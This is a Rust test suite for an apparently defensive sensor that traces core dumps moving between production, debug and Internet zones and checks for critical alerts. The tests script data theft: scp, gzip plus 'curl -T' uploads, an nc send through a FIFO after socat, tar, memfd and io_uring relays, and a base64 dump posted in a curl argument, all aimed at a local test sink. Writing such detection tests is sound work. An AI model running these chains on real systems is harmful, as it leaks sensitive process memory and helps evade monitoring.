//! The incident: production to debug to the Internet, each hop by an ordinary tool, each reported with its zones.

use sensor_abi::flow::Via;
use sensor_user::step::{Confidence, Severity, StepKind};
use serde_json::Value;

use super::{Shared, birth::identified, network::sshd};
use crate::harness::{
    expect::step,
    scene::{SOON, Scene, of_python, python},
    world::{
        Zone::{Debug, Internet, Production},
        ip_netns_exec,
    },
};

pub(super) const ALL: &[Shared] = &[
    ("hops::production_to_debug_to_internet", production_to_debug_to_internet),
    ("hops::every_means_in_one_chain", every_means_in_one_chain),
    ("hops::arguments_over_programs", arguments_over_programs),
];

fn production_to_debug_to_internet(scene: &Scene<'_>) {
    let dump = scene.core();
    let content = identified(scene, &dump);
    let (_sshd, mut arguments) = sshd(scene, Debug, Production);
    let received = scene.path("received");
    arguments.extend([dump.path.clone(), format!("root@{}:{received}", Debug.address(Production))]);
    scene.complete(ip_netns_exec(Production, "scp").args(&arguments));
    let first = step(StepKind::Sent).via(Via::Tcp).from("ssh[]").zones("production", "debug");
    let first = scene.sees(&dump, &first.sure(Confidence::Direct));
    scene.alerts(&dump, "dump-rank-raised", Severity::Medium, &step(StepKind::Sent).zones("production", "debug"));
    let kept = scene.sees(&dump, &step(StepKind::Written).to(&received).zones("debug", "debug").bytes(dump.size));
    scene.complete(ip_netns_exec(Debug, "gzip").args(["-1", "-k", &received]));
    let packed = scene.sees(&dump, &step(StepKind::Written).from("gzip[]").zones("debug", "debug"));
    let (mut sink, port) = scene.sink(Internet, Debug, 2_000_000);
    let address = Internet.address(Debug);
    let url = format!("http://{address}:{port}/up");
    scene.complete(ip_netns_exec(Debug, "curl").args(["-sS", "-T", &format!("{received}.gz"), &url]));
    assert!(sink.within(SOON).success());
    let last = step(StepKind::Sent).via(Via::Tcp).from("curl[]").zones("debug", "internet").destination(address, port);
    let alert = scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &last);
    assert_eq!(alert.step.content, Some(content), "{alert:#?}");
    assert_eq!(alert.step.origin_zone.as_deref(), Some("production"));
    let hops = [first.hops, kept.hops, packed.hops, alert.step.hops];
    assert!(hops.is_sorted_by(|a, b| a < b), "hops rise: {hops:?}");
    told(scene, &dump.id);
}

/// `dumptrail trail` tells the same, for people and for programs.
fn told(scene: &Scene<'_>, dump: &str) {
    let tree = scene.agent.verb(&["trail", dump]);
    assert!(tree.status.success(), "{tree:?}");
    let tree = String::from_utf8(tree.stdout).unwrap();
    assert!(tree.contains("received.gz") && tree.contains("internet"), "{tree}");
    let json = scene.agent.verb(&["trail", dump, "--format", "json"]);
    assert!(json.status.success(), "{json:?}");
    let json: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(json["dump"]["id"], dump);
    let nodes = json["nodes"].as_array().unwrap();
    let named = |end: &str| nodes.iter().any(|n| n["name"].as_str().is_some_and(|name| name.ends_with(end)));
    assert!(named("/received") && named("/received.gz"), "{json:#}");
    let list = scene.agent.verb(&["trail"]);
    assert!(list.status.success() && String::from_utf8(list.stdout).unwrap().contains(&dump[..8]));
    let unknown = scene.agent.verb(&["trail", "00000000000000000000000000000000"]);
    assert_eq!(unknown.status.code(), Some(1), "{unknown:?}");
}

/// Fills a memory file, then becomes another program, which gets that and nothing else.
const MEMORY_FILE: &str = "
m = os.memfd_create('kept', 0); os.write(m, open(a, 'rb').read())
os.execv(sys.executable, [sys.executable, '-c', ring, f'/proc/self/fd/{m}', b])";

/// File, pipe, gzip, file, another name, copy, unix relay, archive, memory file over exec, io_uring, FIFO, TCP: the last
/// step knows where it all began, and the trail has every carrier.
fn every_means_in_one_chain(scene: &Scene<'_>) {
    let dump = scene.core();
    let [packed, moved, copy, socket, relayed, archive, ringed, fifo] =
        ["packed", "moved", "copy", "socket", "relayed", "archive.tar", "ringed", "fifo"].map(|name| scene.path(name));
    scene.shell(Production, &format!("cat {} | gzip -1 > {packed}", dump.path));
    scene.run(Production, "mv", &[&packed, &moved]);
    let by_name = scene.sees(&dump, &step(StepKind::Renamed).from(&packed).to(&moved));
    scene.run(Production, "cp", &[&moved, &copy]);
    let relay = format!(
        "socat -u UNIX-LISTEN:{socket} CREATE:{relayed} & until [ -S {socket} ]; do sleep 0.01; done; socat -u OPEN:{copy} UNIX-CONNECT:{socket},retry=50,interval=0.1; wait"
    );
    scene.shell(Production, &relay);
    scene.run(Production, "tar", &["-cf", &archive, &relayed]);
    let ring = format!("import sys\na, b = sys.argv[1:]\n{}", super::uring::copier("plain"));
    by_python(scene, &archive, &ringed, &format!("ring = {ring:?}{MEMORY_FILE}"));
    scene.run(Production, "mkfifo", &[&fifo]);
    let (mut sink, port) = scene.sink(Internet, Production, 2_000_000);
    let address = Internet.address(Production);
    scene.shell(Production, &format!("cat {ringed} > {fifo} & nc -N {address} {port} < {fifo}; wait"));
    assert!(sink.within(SOON).success());
    let home = |kind, via: Via| step(kind).via(via).zones("production", "production").sure(Confidence::Direct);
    let python = of_python("");
    let chain = [
        home(StepKind::Read, Via::File).from(&dump.path).to("cat[]"),
        home(StepKind::Sent, Via::Pipe).from("cat[]").to("gzip[]"),
        home(StepKind::Written, Via::File).from("gzip[]"),
        step(StepKind::Read).from(&moved).to("cp[]"),
        step(StepKind::Written).from("cp[]").to(&copy),
        home(StepKind::Read, Via::File).from(&copy).to("socat[]"),
        home(StepKind::Sent, Via::Unix).from("socat[]").to("socat[]"),
        home(StepKind::Written, Via::File).from("socat[]").to(&relayed),
        home(StepKind::Read, Via::File).from(&relayed).to("tar[]"),
        home(StepKind::Written, Via::File).from("tar[]").to(&archive),
        home(StepKind::Read, Via::File).from(&archive),
        home(StepKind::Written, Via::File).from(&python).to("/memfd:kept (deleted)"),
        home(StepKind::Read, Via::IoUring).from("/memfd:kept (deleted)").to(&python),
        home(StepKind::Written, Via::IoUring).to(&ringed),
        home(StepKind::Read, Via::File).from(&ringed).to("cat[]"),
        home(StepKind::Sent, Via::Pipe).from("cat[]").to("nc[]"),
    ];
    let mut hops: Vec<u32> = chain.iter().map(|wanted| scene.sees(&dump, wanted).hops).collect();
    let last =
        step(StepKind::Sent).via(Via::Tcp).from("nc[]").zones("production", "internet").destination(address, port);
    let alert = scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &last.sure(Confidence::Direct));
    hops.push(alert.step.hops);
    assert!(hops.is_sorted_by(|a, b| a < b) && hops.len() > 12, "hops rise: {hops:?}");
    assert_eq!((alert.step.victim, alert.step.origin_zone.as_deref()), (Some(dump.victim), Some("production")));
    assert_eq!(by_name.hops, hops[2], "a name is no hop");
    let tree = scene.agent.verb(&["trail", &dump.id]);
    let tree = String::from_utf8(tree.stdout).unwrap();
    for carrier in [&moved, &copy, &relayed, &archive, &ringed] {
        assert!(tree.contains(carrier.as_str()), "{carrier} is not in the trail:\n{tree}");
    }
    assert!(tree.contains(&address.to_string()), "{tree}");
}

/// A dump's text on a command line: programs that read nothing hand it on, and a shell to its child. What is executed
/// without it holds nothing.
fn arguments_over_programs(scene: &Scene<'_>) {
    let dump = scene.core();
    let (mut sink, port) = scene.sink(Internet, Production, 80_000);
    let (mut business, other) = scene.sink(Internet, Production, 80_000);
    let address = Internet.address(Production);
    let numbers = scene.path("numbers");
    let inner = format!("curl -sS -d \"$1\" http://{address}:{port}/; curl -sS -T {numbers} http://{address}:{other}/");
    let text = format!("\"$(head -c 60000 {} | base64 -w0)\"", dump.path);
    scene.shell(Production, &format!("seq 20000 >{numbers}; env NAME=value timeout 20 sh -c '{inner}' sh {text}"));
    assert!(sink.within(SOON).success() && business.within(SOON).success());
    let sent = step(StepKind::Sent).from("curl[]").zones("production", "internet").destination(address, port);
    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &sent.sure(Confidence::Direct));
    let handed = scene.agent.steps_where(|s| s.kind == StepKind::Executed && s.dump.as_ref() == Some(&dump.id));
    assert!(handed.len() >= 4, "env, timeout, sh and curl: {handed:#?}");
    let shown: Vec<_> = scene.agent.steps(&dump.id).into_iter().filter_map(|s| s.command_line).collect();
    let long = shown.iter().find(|line| line.split(' ').any(|word| word.len() > 200));
    assert!(long.is_none(), "the dump is not shown: {long:?}");
    let innocent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.port == Some(other));
    assert!(innocent.is_empty(), "{innocent:#?}");
}

fn by_python(scene: &Scene<'_>, from: &str, to: &str, line: &str) {
    let script = format!("import os, sys\na, b = sys.argv[1:]\n{line}");
    scene.run(Production, python().to_str().unwrap(), &["-c", &script, from, to]);
}
